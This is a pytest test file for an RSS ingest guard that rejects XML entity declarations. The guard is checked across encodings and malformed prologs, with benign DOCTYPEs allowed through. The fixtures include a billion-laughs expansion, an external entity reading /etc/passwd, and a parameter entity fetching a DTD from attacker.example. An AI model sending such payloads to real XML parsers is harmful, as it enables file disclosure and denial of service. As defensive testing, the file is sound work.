from __future__ import annotations

import pytest

from digests.ingest.errors import EntityDeclarationError
from digests.ingest.xmlguard import refuse_entity_declarations

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<rss version="2.0"><channel><title>&lol2;</title></channel></rss>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&secret;</title></channel></rss>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
def test_entity_declarations_are_refused_in_any_encoding(document: str, encoding: str) -> None:
    data = document.replace('version="1.0"?>', f'version="1.0" encoding="{encoding}"?>', 1).encode(encoding)
    with pytest.raises(EntityDeclarationError, match="declares XML entities"):
        refuse_entity_declarations(data)


def test_entity_declarations_in_an_ill_formed_prolog_are_still_refused() -> None:
    data = BILLION_LAUGHS.replace('<?xml version="1.0"?>', "<?xml?xml junk ??>").encode()
    with pytest.raises(EntityDeclarationError):
        refuse_entity_declarations(data)


def test_a_plain_doctype_is_fine() -> None:
    old_rss = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title></channel></rss>"""
    refuse_entity_declarations(old_rss)


def test_entity_text_inside_an_article_is_fine() -> None:
    article = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Security blog</title><item><title>XXE explained</title>
<description><![CDATA[An attacker writes <!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]> to ...]]></description>
</item></channel></rss>"""
    refuse_entity_declarations(article)


def test_documents_without_any_doctype_pass_quickly() -> None:
    refuse_entity_declarations(b"<rss version='2.0'><channel/></rss>")
    refuse_entity_declarations(b"")
